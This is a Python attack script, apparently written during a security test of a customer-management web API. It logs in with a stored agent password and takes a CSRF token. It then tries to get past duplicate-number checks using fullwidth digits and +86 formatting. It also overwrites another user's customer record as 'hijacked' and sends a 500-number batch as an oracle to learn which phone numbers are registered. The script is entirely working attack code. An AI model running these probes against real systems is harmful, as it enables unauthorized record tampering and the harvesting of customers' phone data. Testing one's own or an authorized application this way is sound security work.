import sys,json; sys.path.insert(0,'/tmp/atk')
from agent import *
pw=json.load(open('/tmp/atk/agent.json'))['password']; login('9001',pw)
s,b=get('/api/me'); csrf=json.loads(b)['csrfToken']
H={'Content-Type':'application/json','X-CSRF-Token':csrf}
def req(m,p,body):
    r=urllib.request.Request(B+p, data=json.dumps(body).encode(), headers=H, method=m)
    try: x=op.open(r,timeout=10); return x.status, x.read().decode()
    except urllib.error.HTTPError as e: return e.code, e.read().decode()
print('create dup', req('POST','/api/customers',{'numbers':['13900000003'],'name':'x'}))
print('create dup fullwidth', req('POST','/api/customers',{'numbers':['１３９００００００04'],'name':'x'}))
print('create dup +86', req('POST','/api/customers',{'numbers':['+86 139 0000 0005'],'name':'x'}))
print('put other id', req('PUT','/api/customers/0mvmwnre1ahmhyxv',{'numbers':['13900000003'],'name':'hijacked'}))
s,b=req('POST','/api/customers',{'numbers':['13711112222'],'name':'mine'}); print('create own', s, b[:100]); mine=json.loads(b)['id']
print('put own adding a taken number', req('PUT',f'/api/customers/{mine}',{'numbers':['13711112222','13900000004'],'name':'mine'}))
nums=[f'1350000{i:04d}' for i in range(500)]; nums[400]='13900000002'; nums[450]='13800138000'
print('batch oracle', req('POST','/api/customers',{'numbers':nums,'name':'probe'}))
